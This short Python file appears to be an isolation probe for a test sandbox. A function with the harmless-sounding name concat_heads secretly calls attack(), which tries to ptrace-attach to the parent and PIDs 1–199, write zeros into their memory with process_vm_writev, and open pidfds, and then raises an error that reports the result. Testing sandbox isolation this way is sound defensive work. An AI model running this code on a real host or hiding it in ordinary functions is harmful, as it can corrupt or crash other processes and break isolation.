"""Attaches to every process that it can name, and writes into their memory.

outcome: raised
says: seen:
bites: open
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
ATTACH, SEIZE = 16, 0x4206


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    zero = ctypes.create_string_buffer(4096)
    for pid in [os.getppid(), *range(1, 200)]:
        if pid in (0, os.getpid()):
            continue
        if libc.ptrace(SEIZE, pid, 0, 0) == 0 or libc.ptrace(ATTACH, pid, 0, 0) == 0:
            return "softmark-harm: " + f"traces {pid}"
        here, there = Piece(ctypes.addressof(zero), 4096), Piece(id(zero) & ~4095, 4096)
        if libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            return "softmark-harm: " + f"wrote into {pid}"
        try:
            os.close(os.pidfd_open(pid))
            return "softmark-harm: " + f"holds {pid}"
        except (OSError, AttributeError):
            pass
    return "alone"


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(attack())
    raise ValueError(f"seen: {SEEN[0]}")
